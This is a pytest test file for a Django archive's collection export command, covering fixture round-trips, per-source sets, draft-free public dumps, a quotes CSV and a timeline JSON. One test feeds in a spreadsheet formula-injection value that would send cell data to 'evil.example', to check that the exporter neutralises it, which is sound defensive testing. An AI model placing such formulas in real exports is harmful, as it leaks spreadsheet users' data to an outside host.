"""export_collection: fixtures that restore exactly, source sets that load on their own,
public dumps without drafts, quotes as CSV and the timeline as JSON."""

import csv
import datetime
import json
import os
from io import StringIO

import pytest
from django.conf import settings
from django.contrib.auth import get_user_model
from django.contrib.auth.models import Group
from django.core.management import call_command
from django.core.management.base import CommandError

from archive import exporting
from archive.exporting import COLLECTION_MODELS, select, write_quotes_csv, write_timeline_json
from archive.models import (
    Annotation,
    DismissedMention,
    Event,
    Organization,
    Participation,
    Person,
    PersonAlias,
    Quote,
    Role,
    SearchEntry,
)
from archive.models.events import local_moment
from archive.queries import TIME_ORDER
from sources.models import Source
from sources.publishing import Status
from tests.collection_rows import canonical, database_rows
from tests.conftest import APP_MODELS

User = get_user_model()


# Helpers -----------------------------------------------------------------------------------


def read_rows(path) -> list[dict]:
    return json.loads(path.read_text(encoding="utf-8"))


def keys(rows: list[dict], model: str) -> set:
    """Natural keys of the rows of one model in a fixture: slugs, keys, or (owner, name)."""
    found = set()
    for row in rows:
        if row["model"] != model:
            continue
        fields = row["fields"]
        if "slug" in fields:
            found.add(fields["slug"])
        elif model == "auth.group":
            found.add(fields["name"])
        elif "key" in fields:
            found.add(fields["key"])
        else:
            owner = fields.get("person") or fields.get("organization")
            found.add((owner[0], fields["name"]))
    return found


def wipe():
    """Like the empty_db fixture, for a test that already used it to build its world."""
    Event.objects.update(parent=None)
    Organization.objects.update(parent=None)
    for model in APP_MODELS:
        for field in model._meta.local_many_to_many:
            field.remote_field.through.objects.all()._raw_delete(using="default")
        model.objects.all()._raw_delete(using="default")
    SearchEntry.objects.all()._raw_delete(using="default")


def export(*args, **options) -> str:
    out = StringIO()
    call_command("export_collection", *args, stdout=out, stderr=StringIO(), **options)
    return out.getvalue()


# The whole archive -------------------------------------------------------------------------


def test_the_whole_archive_round_trips_exactly(seed, tmp_path, request):
    before = database_rows()
    first, second = tmp_path / "first.json", tmp_path / "second.json"
    export(output=str(first))
    # The fixture is every row and every M2M link, by natural keys only.
    assert canonical(read_rows(first)) == before
    assert all("pk" not in row for row in read_rows(first))

    request.getfixturevalue("empty_db")
    assert database_rows() == []
    call_command("loaddata", str(first), verbosity=0)

    assert database_rows() == before  # timestamps and versions included
    export(output=str(second))
    assert second.read_bytes() == first.read_bytes()


def test_the_fixture_leaves_out_history_and_accounts(seed, tmp_path):
    person = Person.objects.get(slug="sam-altman")
    person.description = "Edited, so that there is history to leave out."
    person.save()
    assert person.history.exists()
    User.objects.create_user("someone", password="not-exported")
    path = tmp_path / "dump.json"
    export(output=str(path))
    models = {row["model"] for row in read_rows(path)}
    # The seed has no dismissals; everything else is there, and nothing but the collection.
    assert models == set(COLLECTION_MODELS) - {"archive.dismissedmention"}


def test_with_users_accounts_move_with_the_collection(seed, tmp_path, request):
    editor = User.objects.create_user("editor-x", password="secret-x")
    editor.groups.add(Group.objects.get(name="Publishers"))
    slug = "sutskever-leike-exodus-blog"  # small: this test loads it
    annotation = Annotation.objects.filter(source__slug=slug).order_by("pk").first()
    Annotation.objects.filter(pk=annotation.pk).update(author=editor)
    permissions = set(Group.objects.get(name="Publishers").permissions.all())

    def annotation_row(rows):
        (row,) = [row for row in rows if row["fields"].get("key") == str(annotation.key)]
        return row

    without, with_users, small = (tmp_path / name for name in ("a.json", "b.json", "c.json"))
    export(output=str(without))
    export(output=str(with_users), with_users=True)
    export(output=str(small), with_users=True, sources=[slug])
    # No dangling reference to an account that is not exported.
    assert annotation_row(read_rows(without))["fields"]["author"] is None
    rows = read_rows(with_users)
    assert annotation_row(rows)["fields"]["author"] == ["editor-x"]
    assert keys(rows, "auth.group") == set(Group.objects.values_list("name", flat=True))

    request.getfixturevalue("empty_db")
    User.objects.all().delete()
    Group.objects.all().delete()
    call_command("loaddata", str(small), verbosity=0)
    editor = User.objects.get(username="editor-x")
    assert editor.check_password("secret-x")
    assert set(editor.groups.values_list("name", flat=True)) == {"Publishers"}
    assert set(Group.objects.get(name="Publishers").permissions.all()) == permissions
    assert Annotation.objects.get(key=annotation.key).author == editor


def test_the_summary_counts_what_was_written(seed, tmp_path):
    path = tmp_path / "dump.json"
    out = export("--output", str(path))
    assert out.startswith(f"Wrote {path}: 5 sources, 38 people, 42 organizations,")
    assert f"{Annotation.objects.count()} annotations" in out


def test_the_fixture_can_go_to_standard_output(seed):
    out, err = StringIO(), StringIO()
    call_command(
        "export_collection",
        "--source",
        "jacobs-mission-and-execution-op-ed",
        output="-",
        stdout=out,
        stderr=err,
    )
    rows = json.loads(out.getvalue())
    assert keys(rows, "sources.source") == {"jacobs-mission-and-execution-op-ed"}
    assert err.getvalue().startswith("Wrote standard output: 1 source,")


# A source set --------------------------------------------------------------------------------


@pytest.fixture
def two_sources(source, altman, openai, annotate):
    """A world in which `sample` refers to some things directly, some through others, and
    `other` to things `sample` never reaches."""
    other = Source.objects.create(
        slug="other", title="Other", body="Mira Murati leads OpenAI.", status=Status.PUBLISHED
    )
    person = {
        slug: Person.objects.create(slug=slug, name=slug.title(), status=Status.PUBLISHED)
        for slug in ("greg-brockman", "mira-murati", "helen-toner")
    }
    person["helen-toner"].aliases.create(name="Toner", kind="short")
    person["mira-murati"].aliases.create(name="Murati", kind="short")
    holdings = Organization.objects.create(slug="holdings", name="Holdings")
    global_llc = Organization.objects.create(slug="global", name="Global", parent=holdings)
    Organization.objects.filter(pk=openai.pk).update(parent=global_llc)
    when = datetime.datetime(2023, 11, 17, 20, tzinfo=datetime.UTC)
    event = {
        slug: Event.objects.create(slug=slug, title=slug.title(), occurred_at=when)
        for slug in ("crisis", "board-meeting", "elsewhere")
    }
    event["returns"] = Event.objects.create(
        slug="returns", title="Returns", occurred_at=when, parent=event["crisis"]
    )
    quote = Quote.objects.create(
        slug="love-the-team",
        text="I love the OpenAI team",
        speaker=person["greg-brockman"],
        event=event["board-meeting"],
    )
    annotate("Ultraman returns", persons=[altman], events=[event["returns"]])
    annotate("OpenAI", organizations=[openai])
    annotate("I love the OpenAI team", quote=quote, motivation="linking")
    mention = Annotation.objects.create(
        source=other, start=0, end=11, exact="Mira Murati", status=Status.PUBLISHED
    )
    mention.persons.set([person["mira-murati"]])
    mention.events.set([event["elsewhere"]])
    start = source.body.index("Greg Altman")
    DismissedMention.objects.create(
        source=source,
        start=start,
        end=start + 11,
        exact="Greg Altman",
        person=person["helen-toner"],
    )
    roles = {
        "in": [
            Role.objects.create(person=altman, organization=openai, title="CEO"),
            Role.objects.create(
                person=person["greg-brockman"], organization=global_llc, title="President"
            ),
        ],
        "out": [
            Role.objects.create(person=person["mira-murati"], organization=openai, title="CTO")
        ],
    }
    participations = {
        "in": [
            Participation.objects.create(event=event["returns"], person=altman),
            Participation.objects.create(event=event["crisis"], organization=global_llc),
        ],
        "out": [
            Participation.objects.create(event=event["returns"], person=person["mira-murati"]),
            Participation.objects.create(event=event["elsewhere"], organization=openai),
        ],
    }
    return roles, participations


def test_a_source_set_holds_the_closure_of_what_it_refers_to(two_sources, tmp_path):
    roles, participations = two_sources
    path = tmp_path / "sample.json"
    export(output=str(path), sources=["sample"])
    rows = read_rows(path)

    assert keys(rows, "sources.source") == {"sample"}
    assert len(keys(rows, "archive.annotation")) == 3
    assert len(keys(rows, "archive.dismissedmention")) == 1
    assert keys(rows, "archive.quote") == {"love-the-team"}
    # Mentioned, the speaker of a quote, the subject of a dismissal: not Mira (only in `other`).
    assert keys(rows, "archive.person") == {"sam-altman", "greg-brockman", "helen-toner"}
    # OpenAI and its parents, up the chain.
    assert keys(rows, "archive.organization") == {"openai", "global", "holdings"}
    # Told, the parent of one told, the occasion of a quote.
    assert keys(rows, "archive.event") == {"returns", "crisis", "board-meeting"}
    assert keys(rows, "archive.personalias") == {
        ("sam-altman", name) for name in ("Sam Altman", "Altman", "Ultraman", "Greg Altman")
    } | {("helen-toner", "Toner")}
    assert keys(rows, "archive.organizationalias") == {("openai", "OpenAI")}
    # Relations come along only when both ends are in: they never pull in anything new.
    assert keys(rows, "archive.role") == {str(role.key) for role in roles["in"]}
    assert keys(rows, "archive.participation") == {str(p.key) for p in participations["in"]}


def test_a_source_set_loads_into_an_empty_database_and_is_a_fixed_point(two_sources, tmp_path):
    path, again = tmp_path / "sample.json", tmp_path / "again.json"
    export(output=str(path), sources=["sample"])
    wipe()
    call_command("loaddata", str(path), verbosity=0)
    assert database_rows() == canonical(read_rows(path))
    export(output=str(again), sources=["sample"])
    assert again.read_bytes() == path.read_bytes()


def test_a_source_set_with_users_holds_its_authors_only(two_sources, tmp_path):
    ours, theirs = User.objects.create_user("ours"), User.objects.create_user("theirs")
    ours.groups.add(Group.objects.get(name="Editors"))
    Annotation.objects.filter(source__slug="sample").update(author=ours)
    Annotation.objects.filter(source__slug="other").update(author=theirs)
    path = tmp_path / "sample.json"
    out = export(output=str(path), sources=["sample"], with_users=True)
    rows = read_rows(path)
    assert [row["fields"]["username"] for row in rows if row["model"] == "auth.user"] == ["ours"]
    assert [row["fields"]["name"] for row in rows if row["model"] == "auth.group"] == ["Editors"]
    assert out.startswith(f"Wrote {path}: 1 group, 1 user, 1 source,")


@pytest.mark.parametrize(
    "slug", ["altman-visitor-badge-compilation", "sutskever-leike-exodus-blog"]
)
def test_a_seed_source_loads_on_its_own(seed, tmp_path, request, slug):
    path, again = tmp_path / "one.json", tmp_path / "again.json"
    export(output=str(path), sources=[slug])
    annotations = Annotation.objects.filter(source__slug=slug).count()
    request.getfixturevalue("empty_db")
    call_command("loaddata", str(path), verbosity=0)
    assert list(Source.objects.values_list("slug", flat=True)) == [slug]
    assert Annotation.objects.count() == annotations
    assert database_rows() == canonical(read_rows(path))
    export(output=str(again), sources=[slug])
    assert again.read_bytes() == path.read_bytes()


def test_several_sources_make_one_set(seed, tmp_path):
    path = tmp_path / "two.json"
    slugs = ["altman-visitor-badge-compilation", "jacobs-mission-and-execution-op-ed"]
    export("--source", slugs[0], "--source", slugs[1], output=str(path))
    assert keys(read_rows(path), "sources.source") == set(slugs)


def test_an_unknown_source_is_named_and_nothing_is_written(seed, tmp_path):
    path = tmp_path / "x.json"
    with pytest.raises(CommandError, match=r"'no-such-source'.*Nothing was written"):
        export(
            "--source",
            "altman-visitor-badge-compilation",
            "--source",
            "no-such-source",
            output=str(path),
        )
    assert list(tmp_path.iterdir()) == []


# Public dumps ------------------------------------------------------------------------------


@pytest.fixture
def some_drafts(seed):
    """Drafts that published rows refer to, in every way a reference can be made."""
    Person.objects.filter(slug="sam-altman").update(status=Status.DRAFT)  # mentioned, quoted
    Organization.objects.filter(slug="openai-global-llc").update(status=Status.DRAFT)  # a parent
    parent = Event.objects.filter(children__isnull=False).first()
    Event.objects.filter(pk=parent.pk).update(status=Status.DRAFT)
    Source.objects.filter(slug="sutskever-leike-exodus-blog").update(status=Status.DRAFT)
    Quote.objects.filter(pk=Quote.objects.order_by("pk").last().pk).update(status=Status.DRAFT)
    return parent


def test_a_public_dump_holds_published_items_only_and_loads(some_drafts, tmp_path, request):
    expected = {
        model: set(model.objects.published().values_list("slug", flat=True))
        for model in (Source, Person, Organization, Event)
    }
    quotes = set(
        Quote.objects.published()
        .exclude(speaker__status=Status.DRAFT)
        .exclude(speaker_organization__status=Status.DRAFT)
        .values_list("slug", flat=True)
    )
    assert Quote.objects.published().filter(speaker__slug="sam-altman").exists()
    annotations = set(Annotation.objects.published().values_list("key", flat=True))
    path = tmp_path / "public.json"
    export(output=str(path), published_only=True)

    request.getfixturevalue("empty_db")
    call_command("loaddata", str(path), verbosity=0)
    for model, slugs in expected.items():
        assert set(model.objects.values_list("slug", flat=True)) == slugs
    assert set(Quote.objects.values_list("slug", flat=True)) == quotes
    assert set(Annotation.objects.values_list("key", flat=True)) == annotations
    assert not DismissedMention.objects.exists()
    for model in (Source, Person, Organization, Event, Quote, Annotation):
        assert set(model.objects.values_list("status", flat=True)) == {Status.PUBLISHED}
    # Links to drafts were dropped, the rows that made them kept.
    assert not PersonAlias.objects.filter(person__slug="sam-altman").exists()
    assert Organization.objects.get(slug="openai").parent is None
    assert not Event.objects.filter(slug=some_drafts.slug).exists()


def test_a_public_dump_of_a_draft_source_is_refused(some_drafts):
    with pytest.raises(CommandError, match="'sutskever-leike-exodus-blog'"):
        export(output="-", sources=["sutskever-leike-exodus-blog"], published_only=True)


def test_a_public_dump_carries_no_accounts(seed):
    with pytest.raises(CommandError, match="cannot hold user accounts"):
        export(output="-", published_only=True, with_users=True)


# Quotes as CSV -----------------------------------------------------------------------------


def read_csv(path) -> list[dict]:
    with path.open(encoding="utf-8", newline="") as stream:
        return list(csv.DictReader(stream))


def test_the_quotes_csv_has_one_row_per_published_quote(seed, tmp_path):
    Quote.objects.filter(pk=Quote.objects.order_by("pk").first().pk).update(status=Status.DRAFT)
    path = tmp_path / "quotes.csv"
    out = export(quotes_csv=str(path))
    rows = read_csv(path)
    published = Quote.objects.published()
    assert out == f"Wrote {path}: {published.count()} quotes\n"
    assert {row["slug"] for row in rows} == set(published.values_list("slug", flat=True))
    assert not path.read_bytes().startswith(b"\xef\xbb\xbf")  # plain UTF-8, no BOM
    assert path.read_bytes().count(b"\r\n") >= len(rows)  # RFC 4180 line ends

    quote = published.filter(speaker__isnull=False, renderings__isnull=False).first()
    (row,) = [row for row in rows if row["slug"] == quote.slug]
    renderings = quote.renderings.published()
    assert row["text"] == quote.text
    assert row["speaker"] == quote.speaker.name
    assert row["speaker_url"] == f"{settings.SITE_URL}/people/{quote.speaker.slug}/"
    assert row["url"] == settings.SITE_URL + quote.get_absolute_url()
    assert int(row["renderings"]) == renderings.count()
    assert set(row["sources"].split(";")) == set(renderings.values_list("source__slug", flat=True))
    assert row["said_on_precision"] == quote.said_on_precision
    assert (
        row["said_on"]
        == {"year": "2023", "month": "2023-11"}.get(quote.said_on_precision, str(quote.said_on))[
            : len(row["said_on"])
        ]
    )


def test_the_quotes_csv_disarms_formulas(altman, tmp_path):
    text = '=HYPERLINK("http://evil.example/?"&A1, "Click")\nsecond line, with "quotes" 🚀'
    Quote.objects.create(
        slug="formula", text=text, speaker=altman, status=Status.PUBLISHED, context="@ a meeting"
    )
    Quote.objects.create(
        slug="anonymous", text="Fine.", speaker_description="-an insider", status=Status.PUBLISHED
    )
    path = tmp_path / "quotes.csv"
    export(quotes_csv=str(path))
    rows = {row["slug"]: row for row in read_csv(path)}
    assert rows["formula"]["text"] == "'" + text
    assert rows["formula"]["context"] == "'@ a meeting"
    assert rows["anonymous"]["speaker"] == ""
    assert rows["anonymous"]["speaker_description"] == "'-an insider"
    assert rows["anonymous"]["renderings"] == "0"


def test_drafts_reach_the_csv_only_when_asked(altman, tmp_path):
    Quote.objects.create(slug="draft", text="Not yet.", speaker=altman)
    path = tmp_path / "quotes.csv"
    export(quotes_csv=str(path))
    assert read_csv(path) == []
    export(quotes_csv=str(path), include_drafts=True)
    assert [row["slug"] for row in read_csv(path)] == ["draft"]


# The timeline as JSON ----------------------------------------------------------------------


def test_the_timeline_is_every_published_event_in_true_order(seed, tmp_path):
    path = tmp_path / "timeline.json"
    export(timeline_json=str(path))
    timeline = json.loads(path.read_text(encoding="utf-8"))
    expected = Event.objects.published().order_by(*TIME_ORDER)
    assert timeline["site"] == settings.SITE_URL
    assert [entry["slug"] for entry in timeline["events"]] == [e.slug for e in expected]
    for entry, event in zip(timeline["events"], expected, strict=True):
        moment = datetime.datetime.fromisoformat(entry["moment"])
        assert entry["moment"].endswith("Z") and moment == event.occurred_at
        # The local date as stated reads back as the same moment and precision.
        assert local_moment(entry["local"], entry["timezone"]) == (moment, entry["precision"])
        assert entry["when"] == event.when_display
        assert {p["slug"] for p in entry["participants"]} == {
            p.participant.slug
            for p in event.participations.all()
            if p.participant.status == Status.PUBLISHED
        }
        accounts = Annotation.objects.published().filter(events=event)
        assert sorted(a["url"] for a in entry["accounts"]) == sorted(
            settings.SITE_URL + a.get_absolute_url() for a in accounts
        )


def test_a_timeline_entry_says_everything_about_its_event(seed, tmp_path):
    path = tmp_path / "timeline.json"
    export(timeline_json=str(path))
    entries = json.loads(path.read_text(encoding="utf-8"))["events"]
    event = Event.objects.published().filter(parent__isnull=False).first()
    (entry,) = [entry for entry in entries if entry["slug"] == event.slug]
    assert entry["url"] == f"{settings.SITE_URL}/events/{event.slug}/"
    assert entry["part_of"] == event.parent.slug
    assert entry["certainty"] == event.certainty
    assert entry["approximate"] == event.approximate
    account = entry["accounts"][0]
    assert set(account) == {"source", "title", "source_url", "url", "stance", "passage"}
    assert account["url"].startswith(f"{settings.SITE_URL}/sources/{account['source']}/#a-")
    participant = entry["participants"][0]
    folder = {"person": "people", "organization": "organizations"}[participant["kind"]]
    assert participant["url"] == f"{settings.SITE_URL}/{folder}/{participant['slug']}/"


def test_the_timeline_leaves_out_drafts(some_drafts, tmp_path):
    path = tmp_path / "timeline.json"
    export(timeline_json=str(path))
    entries = json.loads(path.read_text(encoding="utf-8"))["events"]
    assert some_drafts.slug not in {entry["slug"] for entry in entries}
    for entry in entries:
        assert "sam-altman" not in {p["slug"] for p in entry["participants"]}
        assert "sutskever-leike-exodus-blog" not in {a["source"] for a in entry["accounts"]}
        assert entry["part_of"] != some_drafts.slug


def test_csv_and_timeline_cost_a_fixed_number_of_queries(
    seed, tmp_path, django_assert_max_num_queries
):
    # One query each for the quotes, their renderings, the events, their participants, their
    # accounts, and the ids that decide which links to keep: however large the archive.
    selection = select(published_only=True)
    quotes, events = Quote.objects.published().count(), Event.objects.published().count()
    with django_assert_max_num_queries(3), (tmp_path / "q.csv").open("w", newline="") as stream:
        assert write_quotes_csv(selection, stream) == quotes
    with django_assert_max_num_queries(4), (tmp_path / "t.json").open("w") as stream:
        assert write_timeline_json(selection, stream) == events


# Writing ----------------------------------------------------------------------------------


def test_something_must_be_asked_for(seed):
    with pytest.raises(CommandError, match="Nothing to write"):
        export()


def test_a_failure_leaves_every_file_as_it_was(seed, tmp_path, monkeypatch):
    fixture, quotes = tmp_path / "dump.json", tmp_path / "quotes.csv"
    fixture.write_text("the previous export", encoding="utf-8")

    def broken(quote, selection):
        raise RuntimeError("disk full, say")

    monkeypatch.setattr(exporting, "quote_row", broken)
    with pytest.raises(RuntimeError):
        export(output=str(fixture), quotes_csv=str(quotes))
    assert fixture.read_text(encoding="utf-8") == "the previous export"
    assert sorted(path.name for path in tmp_path.iterdir()) == ["dump.json"]  # no temp files


def test_all_outputs_in_one_go_with_ordinary_permissions(seed, tmp_path):
    names = ["dump.json", "quotes.csv", "timeline.json"]
    out = export(
        *(
            f"--{o}={tmp_path / n}"
            for o, n in zip(["output", "quotes-csv", "timeline-json"], names, strict=True)
        )
    )
    assert out.count("Wrote ") == 3
    umask = os.umask(0)
    os.umask(umask)
    for name in names:
        assert (tmp_path / name).stat().st_mode & 0o777 == 0o666 & ~umask


def test_a_missing_directory_is_reported(seed, tmp_path):
    with pytest.raises(CommandError, match="no directory"):
        export(output=str(tmp_path / "nowhere" / "dump.json"))
